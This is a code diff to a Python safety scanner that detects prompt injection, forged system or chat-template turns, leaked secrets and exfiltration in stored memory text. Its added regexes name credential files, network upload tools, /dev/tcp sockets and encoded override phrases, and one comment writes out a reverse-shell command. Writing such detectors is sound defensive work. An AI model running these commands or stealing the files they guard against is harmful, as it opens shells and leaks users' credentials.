@@ -16,7 +16,7 @@ from typing import NamedTuple
 from engram.model import Finding
 from engram.safety.anchored import ALL, anchored_phrases, possible_rules
 from engram.safety.grabs import permission_grab
-from engram.safety.languages import foreign_override
+from engram.safety.languages import foreign_override, may_override_in
 from engram.safety.normalise import may_override, skeleton, typo_override, variants
 from engram.safety.secrets import (
     basic_auth,
@@ -326,6 +326,8 @@ _LLAMA_RE = _Rule(r"\[/?INST\]|<</?SYS>>")
 # Maven POMs carry `<system>GitHub</system>` (issueManagement); a one-word element is data,
 # while a fake turn carries sentences.
 _MAVEN_SYSTEM_RE = _Rule(r"<system>\s*[\w.-]+\s*</system>")
+# A YAML chat message outside code: `- role: system` then its content.
+_YAML_ROLE_RE = _Rule(r"^\s*-?\s*role\s*:\s*[\"']?(?:system|developer)[\"']?\s*$")
 _TURN_LINE_RE = _Rule(
     r"^\s*(?:>\s*)*(?:\*\*)?(?P<heading>#{1,6}\s*)?(?:\[\s*)?(?:system|developer)"
     r"(?:\s+(?:prompt|message))?(?:\s*\])?(?:\*\*)?\s*:(?:\*\*)?\s*(?P<rest>.*)$"
@@ -352,6 +354,7 @@ _SENT_DATA = (
     r"(?:\bsecrets\b|\benv(?:ironment)?\s+var(?:iable)?s\b|\benv\s+files?\b|\b(?:your|all|any"
     r"|stored|saved|my)\s+(?:[\w-]+\s+)?(?:api[\s_-]?keys|tokens|passwords|credentials|cookies)\b"
     r"|\b(?:aws|gcp|azure|cloud|git|ssh|admin|database|db)\s+credentials\b|\bprivate\s+keys?\b"
+    r"|\boutput\s+of\s+[`'\"]?(?:env|printenv|set|export\s+-p)\b"
     rf"|{_SENSITIVE_FILES})"
 )
 _DESTINATION = (
@@ -410,14 +413,18 @@ _NEGATION_RE = _Rule(
 _CLAUSE_END_RE = _Rule(r"[.!?;:](?:\s|$)")
 _NET_TOOL_RE = _Rule(
     r"\b(?:curl|wget|nc|ncat|netcat|socat|invoke-webrequest|invoke-restmethod|iwr|irm|nslookup"
-    r"|dig|scp|rsync|sftp)\b"
-    r"|\bhttp\s+(?:post|put)\b"
+    r"|dig|scp|rsync|sftp|telnet|rclone|gsutil|mail|mailx|sendmail|mutt)\b"
+    r"|\bhttp\s+(?:post|put)\b|\baws\s+s3\b|\b(?:gcloud|az)\s+storage\b|\bgh\s+gist\b"
+    r"|/dev/(?:tcp|udp)/"
 )
 # A local secret file as a command argument; public keys (*.pub) are meant to be shared.
 _PATH = (
     r"['\"]?(?:(?:~|\$\{?home\}?|\$env:userprofile|%userprofile%|/root|/home/[\w.-]+)[/\\])?"
     r"(?:\.ssh(?:[/\\](?![\w.-]*\.pub\b)[\w.-]*|(?![\w./\\]))|\.aws(?:[/\\][\w.-]*|(?![\w./\\]))|\.netrc\b|\.npmrc\b"
     r"|\.pypirc\b|\.git-credentials\b|\.docker/config\.json|\.kube/config\b|\.env\b(?!\.(?:example|sample|template))|/?etc/(?:passwd|shadow)\b"
+    # credential stores of other CLIs: gh, gcloud, 1Password, Azure, GnuPG, Vault, cargo, gem
+    r"|\.config[/\\](?:gh|gcloud|op|hub|rclone)\b[\w./\\-]*|\.azure\b|\.gnupg\b|\.vault-token\b"
+    r"|\.(?:cargo|gem)[/\\]credentials\b|\.terraform\.d[/\\]credentials"
     r"|[\w./-]*id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub))"
 )
 _SINK = r"(?:base64\s*(?:-w\s*0\s*)?\|\s*)?(?:curl|wget|nc|ncat|netcat|socat|nslookup|dig)\b"
@@ -431,11 +438,23 @@ _UPLOAD_RE = _Rule(
     # Copied to another host, or read into a PowerShell request body.
     rf"|\b(?:scp|rsync|sftp)\s+(?:-\S+\s+)*{_PATH}"
     rf"|\b(?:get-content|gc)\b[^|;&]*?{_PATH}|\(\s*(?:cat|type)\s+{_PATH}"
+    # Read into a socket or a mail, written to /dev/tcp, copied to a bucket or a gist.
+    rf"|\b(?:nc|ncat|netcat|socat|telnet|mail|mailx|sendmail|mutt)\b[^|;&\n]*<\s*{_PATH}"
+    rf"|{_PATH}[^|;&\n]*>\s*/dev/(?:tcp|udp)/"
+    rf"|\b(?:aws\s+s3\s+(?:cp|sync|mv)|gsutil\s+(?:-m\s+)?(?:cp|rsync)|gcloud\s+storage\s+cp"
+    rf"|az\s+storage\s+blob\s+upload|rclone\s+(?:copy|sync)|gh\s+gist\s+create)\b[^|;&\n]*?"
+    rf"{_PATH}"
+)
+# A shell handed to a remote host: `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh`.
+_REVERSE_SHELL_RE = _Rule(
+    r"\b(?:bash|sh|zsh)\s+-i\b[^\n]{0,40}?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S+\s+0>&1"
+    r"|\b(?:nc|ncat|netcat)\b[^|;&\n]{0,40}?\s-e\s+/bin/(?:ba)?sh\b"
 )
 # Browser storage appended to an absolute URL that a request or an image load will fetch.
 _STORAGE_BEACON_RE = _Rule(
     r"(?:fetch|sendbeacon|axios\.\w+|\.src\s*=|open)\s*\(?\s*['\"`](?:https?:)?//[^'\"`]+['\"`]"
     r"\s*\+\s*(?:window\.)?(?:localstorage|sessionstorage|document\.cookie)"
+    r"|sendbeacon\s*\([^)]{0,200}?(?:localstorage|sessionstorage|document\.cookie)"
 )
 # Auto-loading images leak whatever the model substitutes into the query string.
 _BEACON_RE = _Rule(
@@ -477,10 +496,10 @@ _KEY_BODY_RE = _Rule(
 _KEY_STAND_IN_RE = _Rule(r"EXAMPLE|\.\.\.|…")
 _INLINE_KEY_BODY_RE = _Rule(r"-----(?:\\n|\s)+[A-Za-z0-9+/=]{32,}")
 _ASSIGN_RE = _Rule(
-    r"(?<![A-Za-z0-9_.:-])(?P<key>[A-Za-z0-9_.-]*?(?:password|passwd|passphrase|secret|token"
+    r"(?:(?<![A-Za-z0-9_.:-])|(?<=/:))(?P<key>[A-Za-z0-9_.-]*?(?:password|passwd|passphrase|secret|token"
     r"|api[_-]?key|apikey|access[_-]?key|private[_-]?key|client[_-]?secret|auth[_-]?key|pwd"
     r"|credentials?|(?:service|account|signing|encryption|master|db|database)[_-]?key|contrase[nñ]a))"
-    r"[\"']?\]?\s*(?::=|=>|==|=|:|\s(?:is|was)\s)(?![=:])\s*(?P<value>.*)",
+    r"[\"']?\]?\s*(?::=|=>|==|[?+]?=|:|\s(?:is|was)\s)(?![=:])\s*(?P<value>.*)",
     re.IGNORECASE,
 )
 # Pagination, idempotency and lock tokens (AWS NextToken, ClientToken, LockToken...) are
@@ -499,7 +518,7 @@ _CALL_RE = _Rule(r"[A-Za-z_][\w.]*\s*(?:[(\[]|=(?!=|$))|[/~.!&*(]")
 _NAME_RE = _Rule(r"[A-Z][A-Z0-9_]*|[A-Za-z_][A-Za-z_.-]*|[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+")
 _PLACEHOLDER_RE = _Rule(
     r"example|sample|placeholder|dummy|redacted|change_?-?me|your|xxx|\*\*\*|\.\.\.|[<>{}$]"
-    r"|%s|%\(|fake|test|replace|todo|not[-_ ]?a[-_ ]?real|abc123|123456|qwerty|hunter2|^\["
+    r"|%s|%\(|^%\w+%|fake|test|replace|todo|not[-_ ]?a[-_ ]?real|abc123|123456|qwerty|hunter2|^\["
     r"|p[a@4][s5$]{2}w(?:[o0]r)?d|secret|a1b2c3",
     re.IGNORECASE,
 )
@@ -509,7 +528,7 @@ _PATH_OR_CODE_RE = _Rule(
 )
 _WORDS_ONLY_RE = _Rule(r"[A-Za-z _.-]+")
 _URL_CREDS_RE = _Rule(
-    r"\b[a-z][a-z0-9+.-]*://(?P<user>[^\s:/@]+):(?P<pw>[^\s:/@]+)@(?P<host>[^\s/:?#]+)",
+    r"\b[a-z][a-z0-9+.-]*://(?P<user>[^\s:/@]*):(?P<pw>[^\s:/@]+)@(?P<host>[^\s/:?#]+)",
     re.IGNORECASE,
 )
 _DOC_HOST_RE = _Rule(
@@ -669,14 +688,14 @@ _GATES = {
         r"secret|env|api[\s_-]?key|tokens|passwords|credential|cookies|private\s+key|\.ssh|\.aws"
         r"|id_(?:rsa|ed|ec|dsa)|\.netrc|\.npmrc|\.pypirc|\.git-cred|\.docker/|\.kube/"
         r"|/etc/(?:passwd|shadow)|system\s+prompt|!\[|<img|\]\(|\]:|localstorage|sessionstorage"
-        r"|document\.cookie"
+        r"|document\.cookie|\.config[/\\]|/dev/(?:tcp|udp)/|\.gnupg|\.vault-token|\.azure\b"
     ),
     "secret": re.compile(
         r"-----begin|bearer|passw|passphrase|secret|token[\"']?\]?\s*(?:[:=]|\s(?:is|was)\s)"
         r"|api[_-]?key|apikey|access[_-]?key|pwd|credential|contrase|basic\s|-u\s|--user"
         r"|authorization:|x-[\w-]*(?:key|token):|value="
         r"|(?:service|account|signing|encryption|master|db|database|private|auth)[_-]?key"
-        r"|://[^\s/@]*:[^\s/@]*@"
+        r"|://[^\s/@]*:[^\s/@]*@|mysql|mariadb|token>|private-lines:"
     ),
 }
 
@@ -720,12 +739,12 @@ _GATE_PAIRS = frozenset(
 _WORDS_RE = re.compile(r"[a-z]+")
 
 
-def _may_inject(prose: str) -> bool:
-    """False only if the injection gate cannot match `prose` (see `_GATE_PAIRS`)."""
+def _may_inject(prose: str, words: list[str]) -> bool:
+    """False only if the injection gate cannot match `prose`, whose runs of a-z are `words`
+    (see `_GATE_PAIRS`)."""
     if ":" in prose and ("instruction" in prose or "prompt" in prose or "directive" in prose
                          or "orders" in prose):
         return True  # the gate's one alternative with no word boundary before it
-    words = _WORDS_RE.findall(prose)
     return not _GATE_WORDS.isdisjoint(words) or not _GATE_PAIRS.isdisjoint(
         zip(words, words[1:], strict=False))
 
@@ -787,6 +806,10 @@ def _exfil_line(low: str) -> tuple[int, str] | None:
     upload = _UPLOAD_RE.rx.search(low)
     if upload and _NET_TOOL_RE.rx.search(low):
         return upload.start(), "network command uploading local secrets"
+    if "/dev/" in low or " -e " in low:
+        shell = _REVERSE_SHELL_RE.rx.search(low)
+        if shell:
+            return shell.start(), "reverse shell"
     return None
 
 
@@ -798,9 +821,15 @@ def _role_play(folded: str, low: str, fenced: bool, gated: bool = True, tools: b
     forged = None if fenced else json_turn(low)
     if forged:
         return forged
+    if not fenced and "role" in low and _YAML_ROLE_RE.rx.match(low):
+        return 0, "fake system turn"
     if not gated or not _GATES["role-play"].search(low):
         return None
+    # A chat template in code (`<|im_start|>{{ m.role }}`) renders turns; it forges none.
+    template = fenced and ("{{" in low or "{%" in low)
     for m in _ROLE_TOKEN_RE.rx.finditer(low):
+        if template:
+            break
         token = m.group()
         if token.strip("</>") == "system":
             spans = _MAVEN_SYSTEM_RE.rx.finditer(low)
@@ -841,6 +870,8 @@ def _secret(text: str, low: str, following: list[str], tokens: bool = True
         or any(_KEY_BODY_RE.rx.match(line) for line in following)
     ) and not _KEY_STAND_IN_RE.rx.search(text + "".join(following[:1])):
         hits.append((key.start(), "private key block"))
+    if "private-lines:" in low and following and _KEY_BODY_RE.rx.match(following[0]):
+        hits.append((low.index("private-lines:"), "PuTTY private key"))
     for m in _TOKEN_RE.rx.finditer(text):
         bearer = m.group()[6:].lstrip()
         if real_token(bearer):
@@ -909,11 +940,13 @@ def _lines_with(anchors: tuple[str, ...], texts: list[str]) -> frozenset[int]:
 _EXFIL_ANCHORS = (
     "secret", "env", "api", "token", "password", "credential", "cookie", "private", ".ssh", ".aws",
     "id_", "netrc", "npmrc", "pypirc", "git-cred", "docker/", "kube/", "/etc/", "system", "![",
-    "<img", "](", "]:", "storage",
+    "<img", "](", "]:", "storage", ".config/", ".config\\", "/dev/tcp/", "/dev/udp/", ".gnupg",
+    "vault-token", ".azure",
 )
 _LEAK_ANCHORS = (
     "key", "pass", "secret", "token", "bearer", "pwd", "credential", "contrase", "basic", "-u",
-    "user", "authorization", "x-", "value=", "://", "-----begin",
+    "user", "authorization", "x-", "value=", "://", "-----begin", "mysql", "mariadb",
+    "private-lines:",
 )
 
 
@@ -921,6 +954,8 @@ class _Kinds(NamedTuple):
     """Where each kind's gate trips in a memory (see `_possible_kinds`)."""
 
     injection: bool
+    rules: frozenset[int]  # the anchored phrase rules that match somewhere in the memory
+    words: frozenset[str]  # the memory's words (runs of a-z in its prose), for other gates
     exfiltration: frozenset[int]  # lines touched by an exfiltration gate match
     secret: frozenset[int]  # lines touched by a secret gate match
 
@@ -931,10 +966,15 @@ def _possible_kinds(low: list[str], prose: list[str]) -> _Kinds:
     line and per seam (the gates have no anchors, and every line and seam is a substring of
     the joined text). Role-play's gate anchors at a line start: it stays per line."""
     joined_prose = " ".join(prose)
-    injection = bool(_may_inject(joined_prose) and _GATES["injection"].search(joined_prose)
-                     or possible_rules(joined_prose))
+    words = _WORDS_RE.findall(joined_prose)
+    word_set = frozenset(words)
+    rules = possible_rules(joined_prose, word_set)
+    injection = bool(_may_inject(joined_prose, words) and _GATES["injection"].search(joined_prose)
+                     or rules)
     return _Kinds(
         injection=injection,
+        rules=rules,
+        words=word_set,
         exfiltration=frozenset(
             index for index in _lines_with(_EXFIL_ANCHORS, low)
             if _GATES["exfiltration"].search(low[index])
@@ -1015,15 +1055,19 @@ def _fences(items: list[tuple[int, str]]) -> list[bool]:
 # Base64 long enough to carry a sentence; decoded only to be read by the phrase rules.
 # No lookbehind: a search starts where a run starts anyway, and a leading lookbehind would keep
 # the regex engine from skipping positions quickly.
-_BASE64_RE = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}(?![A-Za-z0-9+/=])")
+_BASE64_RE = re.compile(r"[A-Za-z0-9+/]{24,}={0,6}(?![A-Za-z0-9+/=])")
 _HEX_RE = re.compile(r"(?:[0-9a-fA-F]{2}){12,}(?![0-9a-fA-F])")
+# Base32's alphabet is inside base64's: its blobs are among the base64 matches (padded to 8).
+_BASE32_RE = re.compile(r"[A-Z2-7]{24,}={0,6}")
 
 
 def _decoded_override(text: str) -> int | None:
     for m in _BASE64_RE.finditer(text):
-        blob = m.group()
+        start, blob = m.start(), m.group()
         try:
-            if _HEX_RE.fullmatch(blob):
+            if _BASE32_RE.fullmatch(blob):
+                decoded = base64.b32decode(blob + "=" * (-len(blob) % 8))
+            elif _HEX_RE.fullmatch(blob):
                 decoded = bytes.fromhex(blob)
             else:
                 decoded = base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True)
@@ -1031,7 +1075,7 @@ def _decoded_override(text: str) -> int | None:
             continue
         plain = decoded.decode("ascii", "ignore").lower()
         if plain.isprintable() and " " in plain and _injection(_MARKUP_RE.sub(" ", plain)):
-            return m.start()
+            return start
     return None
 
 
@@ -1059,7 +1103,8 @@ def _may_role_play(low: str) -> bool:
             or "<|" in low or "inst]" in low or "sys>>" in low or "_of_turn>" in low)
 
 
-def _possible_checks(texts: list[str], folded: list[str], low: list[str]) -> _Possible:
+def _possible_checks(texts: list[str], folded: list[str], low: list[str],
+                     words: frozenset[str]) -> _Possible:
     """One search of the whole memory per check: each finds nothing in the joined text only if
     it finds nothing in any line (a line, or a window of one, is part of the joined text), and
     most memories rule most checks out at once."""
@@ -1069,7 +1114,7 @@ def _possible_checks(texts: list[str], folded: list[str], low: list[str]) -> _Po
     skel = skeleton(joined)
     reordered = any(_skeleton_override(v) for v in variants(skel, joined)[1:])
     return _Possible(
-        foreign=foreign_override(raw.lower()) is not None,
+        foreign=may_override_in(raw, words) and foreign_override(raw.lower()) is not None,
         skeleton=_skeleton_override(skel) or reordered,
         base64=bool(_BASE64_RE.search(raw)),
         tokens=provider_token(raw) is not None,
@@ -1108,8 +1153,21 @@ def _discussed(index: int, low: list[str], prose: str, fenced: bool) -> bool:
         quoted = bool(_injection(prose)) and not _injection(unquoted)
     if not quoted:
         return False
-    window = " ".join(low[max(0, index - _CONTEXT) : index + _CONTEXT + 1])
+    return _defended(index, low)
+
+
+def _defended(index: int, low: list[str]) -> bool:
+    # Identifiers count as words: `INJECTION_MARKERS`, `looks_malicious()`.
+    window = " ".join(low[max(0, index - _CONTEXT) : index + _CONTEXT + 1]).replace("_", " ")
     return bool(_DEFENCE_RE.rx.search(window))
+
+
+def _quoted_example(index: int, low: list[str], hit: Callable[[str], object]) -> bool:
+    """A hit that lies only inside quotes or inline code, beside its defence: the bad example a
+    review note or a sanitiser's marker list quotes (a fence alone hides nothing)."""
+    if not _QUOTED_SPAN_RE.rx.search(low[index]):
+        return False
+    return not hit(_QUOTED_SPAN_RE.rx.sub(" ", low[index])) and _defended(index, low)
 
 
 def _vertical_runs(raw: list[str]) -> list[tuple[int, str]]:
@@ -1150,11 +1208,10 @@ def scan(lines: Iterable[tuple[int, str]], allow: Collection[str] = ()) -> ScanR
     low = [text.lower() for text in folded]
     prose = [_MARKUP_RE.sub(" ", text) if _has_markup(text) else text for text in low]
     fences = _fences(items)
-    checks = _possible_checks([text for _, text in items], folded, low)
-    skeletons = [skeleton(text) for text in folded] if checks.skeleton else [""] * len(items)
     possible = _possible_kinds(low, prose)
-    can_inject, exfil_lines, leak_lines = possible
-    anchored = possible_rules(" ".join(prose)) if can_inject else frozenset()
+    checks = _possible_checks([text for _, text in items], folded, low, possible.words)
+    skeletons = [skeleton(text) for text in folded] if checks.skeleton else [""] * len(items)
+    can_inject, anchored, _, exfil_lines, leak_lines = possible
 
     def injection_in(text: str) -> list[tuple[int, int, str]]:
         return _injection(text, anchored)
@@ -1182,14 +1239,18 @@ def scan(lines: Iterable[tuple[int, str]], allow: Collection[str] = ()) -> ScanR
             injection.append((hidden, "text hidden from the user by styling"))
         if injection:
             add(number, "injection", min(injection))
-        add(number, "role-play", _role_play(folded[index], low[index], fences[index],
-                                            checks.role, checks.tools))
+        role = _role_play(folded[index], low[index], fences[index], checks.role, checks.tools)
+        if role and role[1].startswith("chat-template token") and _quoted_example(
+                index, low, lambda text: _role_play(text, text, True, checks.role, False)):
+            role = None
+        add(number, "role-play", role)
         if index in exfil_lines:
             exfil = [(s, d) for s, _, d in _exfil_prose(low[index])]
             line_exfil = _exfil_line(low[index])
             if line_exfil:
                 exfil.append(line_exfil)
-            if exfil:
+            if exfil and not _quoted_example(
+                    index, low, lambda text: _exfil_prose(text) or _exfil_line(text)):
                 add(number, "exfiltration", min(exfil))
         if index in leak_lines:
             following = [t for n, t in items[index + 1 : index + 4] if n > number]
